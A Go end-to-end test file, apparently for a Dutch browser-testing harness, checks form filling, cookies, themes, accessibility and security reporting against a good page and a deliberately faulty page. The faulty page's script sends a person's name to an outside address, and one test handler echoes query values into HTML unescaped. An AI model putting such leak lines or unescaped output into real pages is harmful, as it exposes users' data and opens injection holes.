package e2e_test

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"regioaanpak/e2e"
)

// The harness is held against two pages of which the answer is known: a good one, where it must find its way and nothing
// wrong, and a bad one, where it must find every fault.

const goodHead = `<!doctype html><html lang="nl"><head><meta charset="utf-8"><title>Goed</title>
<meta name="viewport" content="width=device-width"><meta name="color-scheme" content="light dark"><link rel="stylesheet" href="/goed.css"></head><body><main>`

const goodForm = goodHead + `<h1>Een melding</h1>
<form method="post" action="/ontvangen">
<p><label for="naam">Naam van de melder</label> <input id="naam" name="naam" value="oud"></p>
<p><label for="dag">Datum</label> <input id="dag" name="dag" type="date"></p>
<p><label for="verhaal">Wat is er gebeurd?</label> <textarea id="verhaal" name="verhaal"></textarea></p>
<p><label for="bron">Hoedanigheid</label> <select id="bron" name="bron"><option value="">Kies</option><option value="02">Huisarts</option></select></p>
<fieldset><legend>Acuut gevaar?</legend>
<label><input type="radio" name="acuut" value="ja"> Ja</label> <label><input type="radio" name="acuut" value="nee"> Nee</label></fieldset>
<fieldset><legend>Kind aanwezig?</legend>
<label><input type="radio" name="kind" value="ja"> Ja</label> <label><input type="radio" name="kind" value="nee"> Nee</label></fieldset>
<p><label><input type="checkbox" name="aard" value="01"> Lichamelijk</label> <label><input type="checkbox" name="aard" value="03"> Psychisch</label></p>
<details><summary>Meer uitleg</summary><p>Dit is de uitleg.</p></details>
<p><button>Leg vast</button></p></form>
<noscript><p>Zonder script.</p></noscript><script src="/goed.js"></script></main></body></html>`

const goodCSS = `body{font:16px/1.5 sans-serif;color:CanvasText;background:Canvas}
input,select,button,textarea,summary{font:inherit;min-height:44px;min-width:44px;max-width:100%}label{display:inline-block;min-height:32px}
@media (prefers-color-scheme:dark){h1::after{content:" in het donker"}}`

const badPage = `<html><head></head><body><div style="width:2000px"><h1>Slecht</h1><h1>Slechter</h1>
<img src="http://elders.example/pixel.png"><input name="zonder-label"><p style="color:#ccc;background:#fff">nauwelijks te lezen</p>
<a href="/a" style="display:inline-block;width:10px;height:10px">a</a><a href="/b" style="display:inline-block;width:10px;height:10px">b</a>
<script>fetch("http://10.1.2.3/lek?naam=Jansen").catch(() => {}); nietsVanDien()</script></div></body></html>`

func pages(t *testing.T) string {
	t.Helper()
	serve := func(kind, body string) http.HandlerFunc {
		return func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", kind)
			w.Header().Set("Content-Security-Policy", "default-src 'self'; require-trusted-types-for 'script'")
			_, _ = w.Write([]byte(body))
		}
	}
	mux := http.NewServeMux()
	mux.HandleFunc("GET /goed", serve("text/html; charset=utf-8", goodForm))
	mux.HandleFunc("GET /goed.css", serve("text/css", goodCSS))
	mux.HandleFunc("GET /goed.js", serve("text/javascript", `document.querySelector("h1").dataset.script = "liep"`))
	mux.HandleFunc("POST /ontvangen", func(w http.ResponseWriter, r *http.Request) {
		_ = r.ParseForm()
		http.SetCookie(w, &http.Cookie{Name: "laatste", Value: r.Form.Get("dag")})
		http.Redirect(w, r, "/gelezen?"+r.Form.Encode(), http.StatusSeeOther)
	})
	mux.HandleFunc("GET /gelezen", func(w http.ResponseWriter, r *http.Request) {
		f := r.URL.Query()
		body := fmt.Sprintf(`%s<h1>Gelezen</h1><p>%s %s %s %s %s %s %s</p><p>taal %s</p><p><a href="/goed">Terug</a></p></main></body></html>`, goodHead,
			f.Get("naam"), f.Get("dag"), f.Get("bron"), f.Get("acuut"), f.Get("kind"), strings.Join(f["aard"], "+"), f.Get("verhaal"), r.Header.Get("Accept-Language"))
		serve("text/html; charset=utf-8", body)(w, r)
	})
	mux.HandleFunc("GET /koek", func(w http.ResponseWriter, r *http.Request) {
		c, _ := r.Cookie("laatste")
		_, _ = fmt.Fprint(w, c)
	})
	mux.HandleFunc("GET /slecht", func(w http.ResponseWriter, _ *http.Request) { _, _ = w.Write([]byte(badPage)) })
	mux.HandleFunc("GET /streng", serve("text/html; charset=utf-8", goodHead+`<h1>Streng</h1><p style="color:red">stijl</p><script>1</script></main></body></html>`))
	mux.HandleFunc("GET /stuk", func(w http.ResponseWriter, _ *http.Request) { http.Error(w, "stuk", http.StatusInternalServerError) })
	srv := httptest.NewServer(mux)
	t.Cleanup(srv.Close)
	return srv.URL
}

func TestHarness(t *testing.T) {
	base := pages(t)
	browser := e2e.Chromium(t)

	for _, noScript := range []bool{false, true} {
		t.Run(fmt.Sprintf("fills and reads a form, scripts off %v", noScript), func(t *testing.T) {
			fillsAndReads(t, browser.Open(t, base, e2e.Options{NoScript: noScript, Language: "en"}), noScript)
		})
		t.Run(fmt.Sprintf("finds nothing wrong with a good page, scripts off %v", noScript), func(t *testing.T) {
			p := browser.Open(t, base, e2e.Options{NoScript: noScript})
			p.Go("/goed")
			p.MustBeRight("harnas-goed")
			for _, file := range []string{"harnas-goed-390-licht-nl.png", "harnas-goed-1440-donker-nl.png"} {
				if info, err := os.Stat(filepath.Join(e2e.OutDir(), file)); err != nil || info.Size() < 2000 {
					t.Errorf("no picture %s: %v", file, err)
				}
			}
		})
	}
	t.Run("shows light and dark", func(t *testing.T) {
		p := browser.Open(t, base, e2e.Options{Dark: true, Width: e2e.Phone})
		p.Go("/goed")
		if w, dark := widthAndScheme(p); w != "390" || !dark {
			t.Errorf("width %s, dark %v", w, dark)
		}
		p.Look(e2e.Desk, false)
		if w, dark := widthAndScheme(p); w != "1440" || dark {
			t.Errorf("width %s, dark %v", w, dark)
		}
	})
	t.Run("finds every fault of a bad page", func(t *testing.T) { findsFaults(t, browser.Open(t, base, e2e.Options{})) })
	t.Run("sees a breach of the security policy and a server error", func(t *testing.T) {
		p := browser.Open(t, base, e2e.Options{})
		p.Go("/streng")
		p.Go("/stuk")
		if p.Status() != http.StatusInternalServerError {
			t.Errorf("status %d", p.Status())
		}
		wantProblems(t, p.TakeProblems(), "security policy", "/stuk answered 500")
	})
	t.Run("tabs do not share cookies", func(t *testing.T) {
		p := browser.Open(t, base, e2e.Options{})
		p.Go("/koek")
		p.MustNotHold("laatste=2")
	})
}

func fillsAndReads(t *testing.T, p *e2e.Page, noScript bool) {
	t.Helper()
	p.Go("/goed")
	if got := p.Heading(); got != "Een melding" {
		t.Errorf("heading %q", got)
	}
	if ran := strings.Contains(p.Source(), `data-script="liep"`); ran == noScript {
		t.Errorf("the page's script ran: %v", ran)
	}
	if read := strings.Contains(p.Text(), "Zonder script."); read != noScript {
		t.Errorf("the words for a browser without scripts can be read: %v", read)
	}
	p.Fill("Naam van de melder", "Ank Över")
	p.Fill("Datum", "2026-12-18")
	p.Fill("Wat is er gebeurd?", "Eén regel\nen nog een")
	p.Select("Hoedanigheid", "Huisarts")
	p.In("Acuut gevaar?").Tick("Ja")
	p.In("Kind aanwezig?").Tick("Nee")
	p.Tick("Lichamelijk", "Psychisch")
	p.Untick("Lichamelijk")
	if strings.Contains(p.Text(), "Dit is de uitleg.") {
		t.Error("the details are open before they are pressed")
	}
	p.Toggle("Meer uitleg")
	p.MustRead("Dit is de uitleg.")
	if p.Value("Hoedanigheid") != "02" || p.Checked("Lichamelijk") || !p.In("Kind aanwezig?").Checked("Nee") {
		t.Error("what was filled in is not there")
	}
	if p.Offers("Verwijder") || !p.Offers("Leg vast") {
		t.Error("Offers tells what is not so")
	}
	p.Click("Leg vast")
	p.MustRead("Ank Över 2026-12-18 02 ja nee 03 Eén regel en nog een", "taal en")
	if p.Status() != http.StatusOK || !strings.HasPrefix(p.Path(), "/gelezen?") {
		t.Errorf("%d at %s", p.Status(), p.Path())
	}
	answer, err := p.Client().Get(p.Base() + "/koek")
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = answer.Body.Close() }()
	var cookie string
	if _, err := fmt.Fscan(answer.Body, &cookie); err != nil || cookie != "laatste=2026-12-18" {
		t.Errorf("cookie %q, %v", cookie, err)
	}
	p.Click("Terug")
	p.Back()
	p.MustRead("Gelezen")
	if !slices.ContainsFunc(p.Requests(), func(r string) bool { return strings.HasPrefix(r, "POST "+p.Base()+"/ontvangen") }) {
		t.Errorf("the POST is not among %q", p.Requests())
	}
}

func widthAndScheme(p *e2e.Page) (string, bool) {
	out := p.Eval(`innerWidth + " " + matchMedia("(prefers-color-scheme: dark)").matches`)
	width, dark, _ := strings.Cut(out, " ")
	return width, dark == "true"
}

func findsFaults(t *testing.T, p *e2e.Page) {
	t.Helper()
	p.Go("/slecht")
	wantProblems(t, p.TakeProblems(), "outside the server: http://elders.example/pixel.png", "outside the server: http://10.1.2.3/lek", "a script of", "nietsVanDien")

	var ids []string
	for _, v := range p.Axe() {
		ids = append(ids, v.ID)
		if len(v.Places) == 0 || v.Help == "" {
			t.Errorf("a finding that does not tell where or what: %s", v)
		}
	}
	for _, want := range []string{"image-alt", "html-has-lang", "document-title", "label", "color-contrast", "target-size"} {
		if !slices.Contains(ids, want) {
			t.Errorf("axe does not find %s, only %q", want, ids)
		}
	}
	fake := &recorder{TB: t}
	p.As(fake).MustBeRight("harnas-slecht")
	wantProblems(t, fake.errors, "image-alt", "scrolls sideways")
}

func wantProblems(t *testing.T, got []string, wants ...string) {
	t.Helper()
	for _, want := range wants {
		if !slices.ContainsFunc(got, func(g string) bool { return strings.Contains(g, want) }) {
			t.Errorf("no problem tells %q: %q", want, got)
		}
	}
}

// recorder keeps the errors of a page that must fail, so that the test of the harness can look at them.
type recorder struct {
	testing.TB
	errors []string
}

func (r *recorder) Errorf(format string, args ...any) {
	r.errors = append(r.errors, fmt.Sprintf(format, args...))
}

func (r *recorder) Fatalf(format string, args ...any) { r.Errorf(format, args...) }
